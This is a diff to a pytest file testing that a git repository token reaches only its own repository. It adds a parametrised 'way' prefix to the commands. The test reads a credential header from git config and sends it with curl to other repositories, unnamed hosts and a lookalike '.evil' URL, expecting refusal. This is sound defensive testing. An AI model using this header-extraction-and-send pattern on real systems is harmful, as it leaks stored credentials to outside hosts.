@@ -8,7 +8,7 @@ import subprocess
 from typing import Iterator
 
 import pytest
-from conftest import BINARY, Stack, ended, script, tool, until
+from conftest import BINARY, WAYS, Stack, ended, script, tool, until
 from git_server import GitServer
 from vaults import Journey, worker
 
@@ -107,15 +107,16 @@ def test_boundary_a_private_repository_is_there_before_the_first_call_and_takes_
     assert uses and {record["credential"] for record in uses} == {f"repository:{resource}"}
 
 
-def test_boundary_a_token_goes_to_its_own_repository_and_to_no_other_url(stack: Stack, known: GitServer):
+@WAYS
+def test_boundary_a_token_goes_to_its_own_repository_and_to_no_other_url(stack: Stack, known: GitServer, way: str):
     journey = given(stack, repository())
     before = len(known.asked)
     header = 'HEADER=$(git config --get-urlmatch http.extraHeader ' + LEDGER + ')'
-    ask = lambda url: f"{header}; curl -sS -m 20 -o - -w ' %{{http_code}}' -H \"$HEADER\" '{url}'"
+    ask = lambda url: f"{header}; {way}curl -sS -m 20 -o - -w ' %{{http_code}}' -H \"$HEADER\" '{url}'"
     [other, path, silent, unnamed, deeper, clone] = journey.bash(
         ask(f"{PAYROLL}/info/refs?service=git-upload-pack"), ask(f"{LEDGER}/objects/info/packs"),
         ask(f"https://{SILENT_HOST}/team/ledger.git/info/refs"), ask(f"https://{UNNAMED_HOST}/team/ledger.git/info/refs"),
-        ask(f"{LEDGER}.evil/info/refs"), f"git clone {PAYROLL} other 2>&1; echo status $?")
+        ask(f"{LEDGER}.evil/info/refs"), f"{way}git clone {PAYROLL} other 2>&1; echo status $?")
     for text in (other, path, deeper):
         assert "path_not_allowed" in text and LEDGER in text and text.rstrip().endswith("403"), text
     for text in (silent, unnamed):
